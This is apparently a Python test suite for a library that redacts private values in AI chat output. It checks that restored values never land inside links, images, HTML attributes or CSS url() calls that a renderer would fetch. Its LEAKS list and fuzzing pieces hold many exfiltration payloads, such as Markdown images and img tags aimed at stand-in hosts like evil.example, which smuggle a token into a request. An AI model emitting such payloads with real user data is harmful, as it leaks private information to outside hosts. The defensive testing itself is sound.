"""A value must not stand in anything that a renderer turns into a request: links, images, attributes, styles."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from aiguard.output import link_spans
from aiguard.output.links import LinkScan
from aiguard.redact import Vault
from aiguard.restoring import restore

VALUE = "jane.doe@example.org"
VAULT = Vault(b"a secret of a conversation")
TOKEN = VAULT.token("EMAIL_ADDRESS", VALUE)

LEAKS = [
    "![x](http://203.0.113.5/(b)?q=<TOKEN>)",
    "![x](https://evil.example./(b)?q=<TOKEN>)",
    "![x](http://localhost:8080/(b)?q=<TOKEN>)",
    "![x](<https://evil.example/) <TOKEN>>)",
    "![x](\n<https://evil.example/) <TOKEN>>)",
    r"![x](https://evil/\)<TOKEN>)",
    "![x](/x/<b)<TOKEN>)",
    "![x][1]\n\n[1]: <https://evil.example/a <TOKEN>>",
    "![x][1]\n\n[1]:\n  <https://evil.example/a <TOKEN>>",
    "![x][1]\n\n[1]:\n\t/a?<TOKEN>",
    "<img alt='>' src='https://evil.example/?q= <TOKEN>'>",
    '<img alt = ">" src="https://evil.example/?q= <TOKEN>">',
    "https://evil.example/?q='<TOKEN>'",
    'https://evil.example/?q="<TOKEN>"',
    "https://evil.example/?q=`<TOKEN>`",
    "https://evil.example/\u00a0<TOKEN>",
    "https://evil.example/\x1c<TOKEN>",
    "203.0.113.5/x?<TOKEN>",
    "203.0.113.5:8080/<TOKEN>",
    "url('https://evil.example/) <TOKEN>')",
    'url( "https://evil.example/) <TOKEN>")',
    r"url(https://evil.example/\) <TOKEN>)",
]

PIECES = [
    "<TOKEN>",
    *(
        "[",
        "]",
        "(",
        ")",
        "](",
        "]: ",
        "![a](",
        "\\",
        "\n",
        "\n\n",
        " ",
        "\t",
        "<",
        ">",
        "'",
        '"',
        "=",
        "`",
        "\u00a0",
        "a",
    ),
    *("http://1.2.3.4/", "//e/", "https://evil.example/(b)", "www.e", "mailto:", "/x?", "e.com", "e.com/", "://"),
    *("<img alt=", "<img src=", "<a href='", "<!--", "-->", "</a>", "url(", 'url("', "[1]", "[1]: ", "![a][1]\n\n"),
]
texts = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)


class Requests(HTMLParser):
    """What a page asks for, or would on a click."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, _tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value for name, value in attrs if name in ("href", "src", "poster", "action", "style") and value]

    def parse_marked_section(self, i: int, report: int = 1) -> int:
        return i + 3


def requests_of(text: str) -> list[str]:
    page = Requests()
    page.feed(MarkdownIt("commonmark").render(text))
    page.close()
    return [unquote(value) for value in page.found]


@pytest.mark.parametrize("text", LEAKS)
def test_a_token_stays_where_a_renderer_would_send_it(text: str) -> None:
    text = text.replace("<TOKEN>", TOKEN)
    assert restore(VAULT, text) == (text, [])
    scan, at = LinkScan(), text.index(TOKEN)
    inside = [scan.feed(character) == [(0, 1)] for character in text]
    assert all(inside[at : at + len(TOKEN)])


@pytest.mark.parametrize(
    "text",
    [
        "Write to <TOKEN>.",
        "See [the page](https://example.com/a_(b)) and write to <TOKEN>.",
        "See <https://example.com/> and write to <TOKEN>.",
        "See https://example.com/ and write to <TOKEN>.",
        '<p class="x">Write to <TOKEN></p>',
        "[a]: /x\n\nWrite to <TOKEN>",
        "if a <b> then write to <TOKEN>",
        "`https://example.com/x` and <TOKEN>",
        "background: url(x.png); write to <TOKEN>",
        "f[0](x) and <TOKEN>",
        "f[0](x\nand <TOKEN>",
        "**<TOKEN>**, `<TOKEN>`",
    ],
)
def test_a_token_beside_a_link_is_turned_back(text: str) -> None:
    count = text.count("<TOKEN>")
    assert restore(VAULT, text.replace("<TOKEN>", TOKEN)) == (text.replace("<TOKEN>", VALUE), [VALUE] * count)


@settings(max_examples=400)
@given(texts)
@example("![a](<http://1.2.3.4/) <TOKEN>>)")
@example("![a](http://1.2.3.4/(b)<TOKEN>)")
@example("<img alt='>' src='//e/ <TOKEN>'>")
def test_no_renderer_of_markdown_is_shown_a_value_in_a_request(text: str) -> None:
    shown, _ = restore(VAULT, text.replace("<TOKEN>", TOKEN))
    leaks = [request for request in requests_of(shown) if VALUE in request]
    # "Jane <jane.doe@example.org>" is how people write an address; it leads to its owner.
    assert not [request for request in leaks if not request.startswith(f"mailto:{VALUE}")]


def test_the_same_test_finds_what_leaks() -> None:
    assert [request for request in requests_of(LEAKS[0].replace("<TOKEN>", VALUE)) if VALUE in request]


@settings(max_examples=300)
@given(texts, st.lists(st.integers(1, 9), min_size=1, max_size=6))
def test_any_cut_of_a_text_has_the_links_of_the_whole(text: str, sizes: list[int]) -> None:
    scan, at, inside = LinkScan(), 0, []
    for size in [*sizes] * len(text):
        inside += [place + at for start, end in scan.feed(text[at : at + size]) for place in range(start, end)]
        at += size
    literal = [place for start, end in link_spans(text) for place in range(start, end)]
    # Of the literal that a link begins with only the last character is sure to be seen as one.
    assert set(inside) <= set(literal)
    assert not [place for place in set(literal) - set(inside) if place not in inside and _beyond(text, place, inside)]


def _beyond(text: str, place: int, inside: list[int]) -> bool:
    """Whether a place that was missed stands further before what was seen than a literal is long."""
    after = [each for each in inside if each > place]
    return not after or min(after) - place > 44


@pytest.mark.parametrize("piece", ["](", "]: ", "<a ", "<a =", "<a ='", "url(", "//", "(", "\\", "[", "](<"])
def test_links_are_found_in_linear_time(piece: str) -> None:
    def seconds(size: int) -> float:
        text = piece * size
        started = time.process_time()
        link_spans(text)
        return time.process_time() - started

    seconds(1000)
    assert min(seconds(80_000) for _ in range(3)) < 20 * max(min(seconds(8_000) for _ in range(3)), 0.001)
